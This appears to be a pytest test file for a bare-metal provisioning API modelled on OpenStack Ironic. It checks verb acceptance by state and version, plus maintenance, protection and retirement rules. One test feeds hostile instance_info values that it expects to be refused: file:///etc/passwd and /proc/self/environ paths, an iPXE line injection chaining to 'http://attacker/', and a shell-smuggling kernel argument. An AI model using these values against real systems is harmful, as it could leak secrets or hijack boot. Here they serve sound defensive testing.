"""Every verb in every state, at the relevant versions, gives Ironic's status or our own."""

import pytest

from app.db.clock import utcnow
from app.lifecycle.provision_states import MACHINE, VERBS, Kind, State
from app.models import Node, Operation, OperationStep
from drivers.core.errors import InvalidDriverInfo
from tests.support.provision_vocabulary import ACCEPTED, ALIASES, SINCE

from .conftest import fault

STEP = [{"interface": "vendor", "step": "log_passthrough"}]
WITH = {
    "clean": {"clean_steps": STEP},
    "service": {"service_steps": STEP},
    "rescue": {"rescue_password": "secret"},
}


def put(api, state, verb):
    """Request a verb of a node in a state; in a busy state the node is reserved."""
    kind = MACHINE[state].kind
    columns = {"provision_state": state}
    if kind is Kind.BUSY:
        columns["reservation"] = "rack-1"
    uuid = api.node(**columns)["uuid"]
    if kind in (Kind.WAIT, Kind.HOLD):
        with api.runtime.transaction() as session:
            node = session.query(Node).filter_by(uuid=uuid).one()
            operation = Operation(
                uuid="0" * 8 + uuid[8:], node_id=node.id, kind="some", created_at=utcnow(),
                state="waiting" if kind is Kind.WAIT else "held",
            )  # fmt: skip
            session.add(operation)
            session.flush()
            session.add(OperationStep(
                operation_id=operation.id, position=0, interface="power", name="hold",
                source="caller", state="waiting", abortable=True,
            ))  # fmt: skip
    body = {"target": verb, **WITH.get(verb, {})}
    return uuid, body


@pytest.mark.parametrize("state", State)
def test_a_verb_is_accepted_only_in_the_states_of_the_table(api, state):
    answered, expected = {}, {}
    for verb in VERBS:
        uuid, body = put(api, state, verb)
        answer = api("PUT", f"/v1/nodes/{uuid}/states/provision", body)
        answered[verb] = answer.status_code
        accepted = state in ACCEPTED[ALIASES.get(verb, verb)]
        if MACHINE[state].kind is Kind.BUSY:
            expected[verb] = 409
        else:
            expected[verb] = 202 if accepted else 400
            if not accepted:
                assert f'"{state}"' in fault(answer)["faultstring"]
    assert expected == answered


@pytest.mark.parametrize(("verb", "minor"), SINCE.items())
def test_a_verb_has_ironics_first_version(api, verb, minor):
    state = min(ACCEPTED[ALIASES.get(verb, verb)])
    for version, expected in ((minor - 1, 406), (max(minor, 110), 202)):
        uuid, body = put(api, state, verb)
        path = f"/v1/nodes/{uuid}/states/provision"
        assert expected == api.at(f"1.{version}")("PUT", path, body).status_code


@pytest.mark.parametrize(("verb", "state"), [("unhold", "active"), ("service", "available")])
def test_some_verbs_check_the_state_before_the_version(api, verb, state):
    uuid, body = put(api, State(state), verb)
    path = f"/v1/nodes/{uuid}/states/provision"
    assert 400 == api.at("1.80")("PUT", path, body).status_code


@pytest.mark.parametrize(
    ("state", "minor"), [("inspect wait", 41), ("wait call-back", 110), ("clean wait", 13)]
)
def test_abort_has_a_first_version_for_each_wait_state(api, state, minor):
    for version, expected in ((minor - 1, 406), (minor, 202)):
        uuid, body = put(api, State(state), "abort")
        path = f"/v1/nodes/{uuid}/states/provision"
        assert expected == api.at(f"1.{version}")("PUT", path, body).status_code


@pytest.mark.parametrize(("verb", "state"), [("clean", "manageable"), ("service", "active")])
def test_a_request_with_steps_and_a_runbook_is_refused_by_the_name_of_the_steps(api, verb, state):
    uuid, body = put(api, State(state), verb)
    body |= {f"{verb}_steps": STEP, "runbook": "CUSTOM_A"}
    answer = api("PUT", f"/v1/nodes/{uuid}/states/provision", body)
    assert 400 == answer.status_code
    message = f'Please provide either "{verb}_steps" or a runbook, but not both.'
    assert message == fault(answer)["faultstring"]


@pytest.mark.parametrize(
    ("argument", "verbs"),
    [
        ("clean_steps", {"clean"}),
        ("deploy_steps", {"active", "deploy", "rebuild"}),
        ("service_steps", {"service"}),
    ],
)
def test_steps_are_refused_with_a_verb_of_another_flow(api, argument, verbs):
    steps = [{**STEP[0], "args": {}, "priority": 50}] if argument == "deploy_steps" else STEP
    for verb in sorted(VERBS.keys() - verbs):
        state = min(ACCEPTED[ALIASES.get(verb, verb)])
        uuid, body = put(api, state, verb)
        path = f"/v1/nodes/{uuid}/states/provision"
        answer = api("PUT", path, {**body, argument: steps})
        assert 400 == answer.status_code, verb
        assert f'"{argument}" is only valid when setting' in fault(answer)["faultstring"]
        assert state == api("GET", f"/v1/nodes/{uuid}").json["provision_state"]


def test_an_empty_list_of_steps_counts_as_none(api):
    path = f"/v1/nodes/{api.node(provision_state='manageable')['uuid']}/states/provision"
    api("POST", "/v1/runbooks", {"name": "book", "steps": [{**STEP[0], "args": {}, "order": 1}]})

    assert 400 == api("PUT", path, {"target": "clean", "clean_steps": []}).status_code
    answer = api("PUT", path, {"target": "clean", "clean_steps": [], "runbook": "book"})
    assert "book fits nodes with one of the traits" in fault(answer)["faultstring"]
    assert 202 == api("PUT", path, {"target": "inspect", "service_steps": []}).status_code


@pytest.mark.parametrize("verb", ["active", "rebuild", "clean", "service", "rescue", "unrescue"])
def test_a_node_in_maintenance_refuses_work(api, verb):
    uuid, body = put(api, min(ACCEPTED[verb] - {State.CLEAN_FAIL}), verb)
    api.set(uuid, maintenance=True)
    answer = api("PUT", f"/v1/nodes/{uuid}/states/provision", body)
    assert (400, True) == (answer.status_code, "maintenance" in fault(answer)["faultstring"])


@pytest.mark.parametrize("verb", ["deleted", "manage", "adopt", "abort", "provide"])
def test_some_verbs_are_accepted_in_maintenance(api, verb):
    uuid, body = put(api, min(ACCEPTED[verb] - {State.SERVICE_FAIL}), verb)
    api.set(uuid, maintenance=True)
    assert 202 == api("PUT", f"/v1/nodes/{uuid}/states/provision", body).status_code


def test_a_failed_service_is_not_aborted_in_maintenance(api):
    uuid, body = put(api, State.SERVICE_FAIL, "abort")
    api.set(uuid, maintenance=True)
    assert 409 == api("PUT", f"/v1/nodes/{uuid}/states/provision", body).status_code


@pytest.mark.parametrize("verb", ["rebuild", "deleted"])
def test_a_protected_node_refuses_destructive_verbs(api, verb):
    uuid, body = put(api, State.ACTIVE, verb)
    api.set(uuid, protected=True)
    assert 403 == api("PUT", f"/v1/nodes/{uuid}/states/provision", body).status_code


@pytest.mark.parametrize(
    ("deploy", "info", "message"),
    [
        ("direct", {"image_source": "FILE:///etc/passwd", "image_checksum": "a" * 64},
         "instance_info/image_source: files may only lie in"),
        ("direct", {"image_source": " file:///etc/passwd", "image_checksum": "a" * 64},
         "instance_info/image_source"),
        ("ramdisk", {"kernel": "http://h/k", "ramdisk": "file:///proc/self/environ"},
         "instance_info/ramdisk: files may only lie in"),
        ("ramdisk", {"boot_iso": "http://h/i\nchain http://attacker/"}, "instance_info/boot_iso"),
        ("ramdisk", {"kernel": "http://h/k", "ramdisk": "http://h/r",
                     "ramdisk_kernel_arguments": "quiet && shell ||"},
         "instance_info/ramdisk_kernel_arguments: a boot loader would run"),
        (None, {"deploy_interface": "anaconda", "ks_template": "file:///proc/self/environ"},
         "anaconda"),
    ],
)  # fmt: skip
def test_a_deployment_with_forbidden_files_or_commands_is_refused_before_it_starts(
    api, deploy, info, message
):
    """`instance_info` may be set by tenants."""
    node = api.node(
        provision_state="available", deploy_interface=deploy, boot_interface="ipxe",
        instance_info=info,
    )  # fmt: skip
    answer = api("PUT", f"/v1/nodes/{node['uuid']}/states/provision", {"target": "active"})
    assert 400 == answer.status_code
    assert message in fault(answer)["faultstring"]
    assert "available" == api("GET", f"/v1/nodes/{node['uuid']}").json["provision_state"]


@pytest.mark.parametrize(
    ("state", "verb", "status"),
    [
        ("manageable", "provide", 409),
        ("clean failed", "provide", 409),
        ("deploy failed", "active", 409),
        ("deploy failed", "deploy", 409),
        ("manageable", "adopt", 409),
        ("adopt failed", "adopt", 409),
        ("manageable", "clean", 202),
        ("active", "rebuild", 202),
        ("deploy failed", "rebuild", 202),
        ("rescue", "unrescue", 202),
        ("active", "deleted", 202),
    ],
)
def test_a_retired_node_is_not_brought_into_service(api, state, verb, status):
    uuid, body = put(api, state, verb)
    api.set(uuid, retired=True)
    answer = api("PUT", f"/v1/nodes/{uuid}/states/provision", body)
    assert status == answer.status_code
    if status == 409:
        assert "first set its field 'retired' to false" in fault(answer)["faultstring"]
        assert state == api("GET", f"/v1/nodes/{uuid}").json["provision_state"]


@pytest.mark.parametrize(
    ("state", "verb"),
    [("deploy failed", "active"), ("clean failed", "manage"), ("active", "rebuild")],
)
def test_a_new_verb_clears_the_error_of_the_last_operation(api, state, verb):
    node = api.node(provision_state=state, last_error="it broke", maintenance=False)
    path = f"/v1/nodes/{node['uuid']}"
    assert 202 == api("PUT", f"{path}/states/provision", {"target": verb}).status_code
    error = api("GET", path).json["last_error"]
    assert ("it broke" if verb == "manage" else None) == error  # `manage` starts no operation here


@pytest.mark.parametrize("verb", ["active", "rebuild"])
@pytest.mark.parametrize("kind", ["power", "deploy", "boot", "network", "storage"])
def test_a_deployment_is_refused_if_one_of_its_interfaces_is_invalid(api, monkeypatch, kind, verb):
    def wrong(_interface, _target):
        raise InvalidDriverInfo(f"the {kind} interface lacks a field")

    node = api.node(provision_state="available" if verb == "active" else "active")
    interface = api.runtime.drivers.driver("fake-hardware", {}).by_kind[kind]
    monkeypatch.setattr(type(interface), "validate", wrong)
    path = f"/v1/nodes/{node['uuid']}"
    answer = api("PUT", f"{path}/states/provision", {"target": verb})
    assert 400 == answer.status_code
    assert f"the {kind} interface lacks a field" in fault(answer)["faultstring"]
    assert node["provision_state"] == api("GET", path).json["provision_state"]
